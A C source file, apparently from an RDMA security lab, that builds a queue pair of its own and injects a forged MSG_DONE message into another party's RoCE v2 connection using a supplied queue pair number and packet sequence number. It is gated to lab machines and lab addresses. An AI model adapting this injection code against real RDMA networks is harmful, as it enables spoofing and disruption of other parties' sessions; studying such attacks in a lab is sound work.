/*
 * own_qp.c - a queue pair of an attacker's own, which sends to somebody else's peer
 *
 * usage: own_qp OWN_ADDRESS SERVER_ADDRESS QPN PSN
 *
 * Makes a reliable queue pair, says that its peer is the queue pair QPN at
 * SERVER_ADDRESS, and that PSN is the number of its first packet; and sends it one
 * message, MSG_DONE of chapter 04. The peer never asked for that, and does not
 * know. For neighbour.py, in the lab only: see docs/psn_security.md.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <infiniband/verbs.h>

/* As transfer.c writes it: magic, version, type, two bytes of zero. */
static uint8_t msg_done[] = { 'R', 'D', 'M', 'A', 3, 2, 0, 0 };

struct own {
	struct ibv_context *verbs;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_mr *mr;
	struct ibv_qp *qp;
};

/* As lib.wiretap.parties.only_in_lab(). */
static int only_in_lab(void)
{
	char line[4096] = "";
	FILE *file = fopen("/proc/cmdline", "re");

	if (file && !fgets(line, sizeof(line), file))
		*line = 0;
	if (file)
		fclose(file);
	if (strstr(line, " rdma_lab=1"))
		return 0;
	fprintf(stderr,
		"own_qp: this machine is not a node of the lab (scripts/lab.sh up), and it runs nowhere else\n");
	return -1;
}

static int fail(const char *call, int err)
{
	printf("cannot: %s: %s\n", call, strerror(err));
	return -1;
}

/* The address of a node as a GID: ::ffff:192.0.2.1 to 4; any other one is refused. */
static union ibv_gid gid_of(const char *address)
{
	static const uint8_t nodes[] = { 192, 0, 2 };

	union ibv_gid gid = { .raw = { [10] = 0xff, [11] = 0xff } };
	const uint8_t *own = &gid.raw[12];

	if (inet_pton(AF_INET, address, &gid.raw[12]) != 1 ||
	    memcmp(own, nodes, sizeof(nodes)) || own[3] < 1 || own[3] > 4) {
		fprintf(stderr, "own_qp: %s is no node of the lab\n", address);
		exit(2);
	}
	return gid;
}

/* The place of this address in the table of GIDs, for RoCE v2; -1: none. */
static int find_gid(struct ibv_context *verbs, const char *address)
{
	const union ibv_gid own = gid_of(address);
	struct ibv_gid_entry entry;

	for (int i = 0; i < 16; i++)
		if (!ibv_query_gid_ex(verbs, 1, i, &entry, 0) &&
		    entry.gid_type == IBV_GID_TYPE_ROCE_V2 &&
		    !memcmp(&entry.gid, &own, sizeof(own)))
			return i;
	return -1;
}

static int open_device(struct own *own)
{
	int count = 0;
	struct ibv_device **list = ibv_get_device_list(&count);

	if (!list || !count)
		return fail("ibv_get_device_list", list ? ENODEV : errno);
	own->verbs = ibv_open_device(list[0]);
	/* Freeing the list may change errno. */
	if (!own->verbs)
		fail("ibv_open_device", errno);
	ibv_free_device_list(list);
	return own->verbs ? 0 : -1;
}

static int make(struct own *own)
{
	struct ibv_qp_init_attr attr = {
		.qp_type = IBV_QPT_RC,
		.cap = { 1, 1, 1, 1, 0 },
	};

	if (open_device(own))
		return -1;
	own->pd = ibv_alloc_pd(own->verbs);
	if (!own->pd)
		return fail("ibv_alloc_pd", errno);
	own->cq = ibv_create_cq(own->verbs, 2, NULL, NULL, 0);
	if (!own->cq)
		return fail("ibv_create_cq", errno);
	own->mr = ibv_reg_mr(own->pd, msg_done, sizeof(msg_done), 0);
	if (!own->mr)
		return fail("ibv_reg_mr", errno);
	attr.send_cq = own->cq;
	attr.recv_cq = own->cq;
	own->qp = ibv_create_qp(own->pd, &attr);
	return own->qp ? 0 : fail("ibv_create_qp", errno);
}

/* From RESET to RTS. No state asks the peer whether it agrees. */
static int move(struct ibv_qp *qp, int gid_index, const char *server,
		uint32_t qpn, uint32_t psn)
{
	struct ibv_qp_attr init = {
		.qp_state = IBV_QPS_INIT,
		.port_num = 1,
	};
	struct ibv_qp_attr rtr = {
		.qp_state = IBV_QPS_RTR,
		.path_mtu = IBV_MTU_1024,
		.dest_qp_num = qpn,
		.ah_attr = {
			.is_global = 1,
			.port_num = 1,
			.grh = { .dgid = gid_of(server), .hop_limit = 64,
				 .sgid_index = gid_index },
		},
	};
	struct ibv_qp_attr rts = {
		.qp_state = IBV_QPS_RTS,
		.sq_psn = psn,
		.timeout = 14,
	};
	int err;

	err = ibv_modify_qp(qp, &init,
			    IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT |
				    IBV_QP_ACCESS_FLAGS);
	if (!err)
		err = ibv_modify_qp(qp, &rtr,
				    IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU |
					    IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
					    IBV_QP_MAX_DEST_RD_ATOMIC |
					    IBV_QP_MIN_RNR_TIMER);
	if (!err)
		err = ibv_modify_qp(qp, &rts,
				    IBV_QP_STATE | IBV_QP_TIMEOUT |
					    IBV_QP_RETRY_CNT |
					    IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN |
					    IBV_QP_MAX_QP_RD_ATOMIC);
	return err ? fail("ibv_modify_qp", err) : 0;
}

/*
 * The acknowledgement goes to the peer's real peer. So this one ends as if nobody
 * were there, as soon as that is clear: it is not tried again.
 */
static int send_done(struct own *own)
{
	struct ibv_sge sge = {
		.addr = (uintptr_t)msg_done,
		.length = sizeof(msg_done),
		.lkey = own->mr->lkey,
	};
	struct ibv_send_wr *bad, wr = {
		.opcode = IBV_WR_SEND,
		.send_flags = IBV_SEND_SIGNALED,
		.sg_list = &sge,
		.num_sge = 1,
	};
	struct ibv_wc wc;
	int err = ibv_post_send(own->qp, &wr, &bad), n;

	if (err)
		return fail("ibv_post_send", err);
	do
		n = ibv_poll_cq(own->cq, 1, &wc);
	while (!n);
	if (n < 0)
		return fail("ibv_poll_cq", EIO);
	printf("a queue pair of its own: status %d (%s)\n", wc.status,
	       ibv_wc_status_str(wc.status));
	return 0;
}

static void unmake(struct own *own)
{
	if (own->qp)
		ibv_destroy_qp(own->qp);
	if (own->mr)
		ibv_dereg_mr(own->mr);
	if (own->cq)
		ibv_destroy_cq(own->cq);
	if (own->pd)
		ibv_dealloc_pd(own->pd);
	if (own->verbs)
		ibv_close_device(own->verbs);
}

int main(int argc, char **argv)
{
	struct own own = { 0 };
	int gid_index, ret = -1;

	if (argc != 5) {
		fprintf(stderr,
			"usage: own_qp OWN_ADDRESS SERVER_ADDRESS QPN PSN\n");
		return 2;
	}
	/* Before anything is done. */
	gid_of(argv[1]);
	gid_of(argv[2]);
	if (only_in_lab() || make(&own))
		goto out;
	gid_index = find_gid(own.verbs, argv[1]);
	if (gid_index < 0)
		fail("ibv_query_gid_ex", ENOENT);
	else if (!move(own.qp, gid_index, argv[2], strtoul(argv[3], NULL, 0),
		       strtoul(argv[4], NULL, 0)))
		ret = send_done(&own);
out:
	unmake(&own);
	return ret ? 1 : 0;
}
